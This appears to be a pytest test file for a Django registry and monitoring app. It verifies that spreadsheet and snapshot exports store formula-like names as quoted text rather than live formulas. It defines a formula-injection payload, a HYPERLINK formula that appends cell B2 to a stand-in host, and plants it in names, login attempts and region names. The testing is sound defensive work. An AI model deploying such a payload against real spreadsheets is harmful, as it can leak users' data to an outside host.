"""Issue 7, row 5: text that a spreadsheet would evaluate (= + - @, tab, CR first) is
exported as text, never as a formula: the household list, the audit log, the
monitoring overview, upload templates and `export-snapshot --format xlsx` all write
through neisheng.engine.cells. The text itself is unchanged, so a snapshot round-trips."""

from __future__ import annotations

from io import BytesIO
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from django.urls import reverse
from django.utils import timezone

from neisheng.cli import main
from neisheng.engine import catalog
from neisheng.engine.cells import FORMULA_TRIGGERS
from neisheng.monitoring.models import HouseholdResult, MonitoringRun, RegionSummary
from neisheng.platform.exports import workbook_bytes
from neisheng.registry.models import Household, Person

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://x"&B2,"详情")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _cells(workbook_source) -> list:
    workbook = openpyxl.load_workbook(workbook_source)
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_text_not_formula(cells, text: str) -> None:
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell was written as a formula"
    holding = [c for c in cells if c.value == text]
    assert holding, f"{text!r} is not in the workbook as typed"
    # quotePrefix keeps it text when someone edits the cell in Excel or WPS.
    assert all(c.data_type == "s" and c.quotePrefix for c in holding)


@pytest.fixture
def attacked_head(places):
    """The first household of the village, its head renamed to a formula."""
    household = Household.objects.filter(village=places["village"]).order_by("household_id").first()
    head = household.members.filter(relation="head").first() or household.members.first()
    Person.objects.filter(pk=head.pk).update(name=ATTACK)
    return household


def test_every_trigger_and_numbers_stay_as_they_are():
    texts = [f"{first}1+1" for first in FORMULA_TRIGGERS] + ["@SUM(A1)", "-"]
    cells = _cells(BytesIO(workbook_bytes(title="t", headers=["a", "b"], rows=[[t, -12.5] for t in texts])))
    assert not [c for c in cells if c.data_type == "f"]
    assert [c.value for c in cells if c.data_type == "s" and c.quotePrefix] == texts
    amounts = [c for c in cells if c.column == 2 and c.row > 1]
    assert {c.value for c in amounts} == {-12.5} and {c.data_type for c in amounts} == {"n"}
    assert not next(c for c in cells if c.value == "a").quotePrefix  # ordinary text untouched


def test_the_household_export_writes_a_formula_name_as_text(client, places, make_user, attacked_head):
    client.force_login(make_user("village", places["village"]))
    response = client.post(reverse("registry:household_list") + f"?q={attacked_head.household_id}")
    assert response["Content-Type"].startswith(XLSX)
    _assert_text_not_formula(_cells(BytesIO(response.content)), ATTACK)


def test_the_audit_export_writes_a_failed_login_with_a_formula_username_as_text(client, make_user, db):
    client.post(reverse("accounts:login"), {"username": ATTACK, "password": "whatever-password-1"})
    client.force_login(make_user("admin", None, username="boss"))
    response = client.post(reverse("platform:audit") + "?action=login_failed")
    assert response["Content-Type"].startswith(XLSX)
    _assert_text_not_formula(_cells(BytesIO(response.content)), ATTACK)


def test_the_monitoring_export_writes_a_formula_division_name_as_text(client, places, make_user):
    run = MonitoringRun.objects.create(year=2026, finished_at=timezone.now())
    household = Household.objects.filter(village=places["village"]).first()
    HouseholdResult.objects.create(household=household, run=run, size=2, risk="red", reasons="rigid_expense")
    # The dashboard reads the run's region summary, where the engine wrote each division's
    # name as the registry had it when the run was made.
    county, town = places["county"], places["town"]
    RegionSummary.objects.create(run=run, code=county.code, name=county.name, level=3,
                                 values={"households": 1, "risk_red": 1})
    RegionSummary.objects.create(run=run, code=town.code, name=ATTACK, level=4, parent_code=county.code,
                                 values={"households": 1, "risk_red": 1})
    client.force_login(make_user("county", places["county"]))
    response = client.post("/monitoring/")
    assert response["Content-Type"].startswith(XLSX)
    _assert_text_not_formula(_cells(BytesIO(response.content)), ATTACK)


def test_export_snapshot_xlsx_writes_text_and_import_gives_the_name_back_exactly(attacked_head, tmp_path):
    runner = CliRunner()
    head_id = Person.objects.get(name=ATTACK).pk
    for headers in ("en", "zh"):
        folder = tmp_path / headers
        exported = runner.invoke(main, ["export-snapshot", str(folder), "--format", "xlsx", "--headers", headers])
        assert exported.exit_code == 0, exported.output
        persons = next(p for p in folder.glob("*.xlsx") if openpyxl.load_workbook(p, read_only=True)
                       .worksheets[0].title in {"persons", "家庭成员"})
        _assert_text_not_formula(_cells(persons), ATTACK)

        Person.objects.filter(pk=head_id).update(name="改掉 changed")
        imported = runner.invoke(main, ["import-snapshot", str(folder), "--replace"])
        assert imported.exit_code == 0, imported.output
        assert Person.objects.get(pk=head_id).name == ATTACK


def test_export_snapshot_csv_keeps_the_text_exactly_for_the_round_trip(attacked_head, tmp_path):
    """CSV has no cell types: it is written as stored (documented in engine/cells.py)."""
    runner = CliRunner()
    head_id = Person.objects.get(name=ATTACK).pk
    assert runner.invoke(main, ["export-snapshot", str(tmp_path / "csv"), "--format", "csv"]).exit_code == 0
    Person.objects.filter(pk=head_id).update(name="改掉 changed")
    imported = runner.invoke(main, ["import-snapshot", str(tmp_path / "csv"), "--replace"])
    assert imported.exit_code == 0, imported.output
    assert Person.objects.get(pk=head_id).name == ATTACK


def test_the_engine_writer_keeps_dates_and_amounts_typed(county_tables, tmp_path):
    import pyarrow as pa

    persons = county_tables["persons"]
    names = persons.column("name").to_pylist()
    names[0] = ATTACK
    tables = {"persons": persons.set_column(persons.schema.get_field_index("name"), "name", pa.array(names)),
              "income_items": county_tables["income_items"].slice(0, 50)}
    catalog.write_snapshot(tables, tmp_path, fmt="xlsx")
    _assert_text_not_formula(_cells(Path(tmp_path / "persons.xlsx")), ATTACK)
    ledger = _cells(Path(tmp_path / "income_items.xlsx"))
    amount_column = next(c.column for c in ledger if c.row == 1 and c.value == "amount")
    assert {c.data_type for c in ledger if c.column == amount_column and c.row > 1} == {"n"}
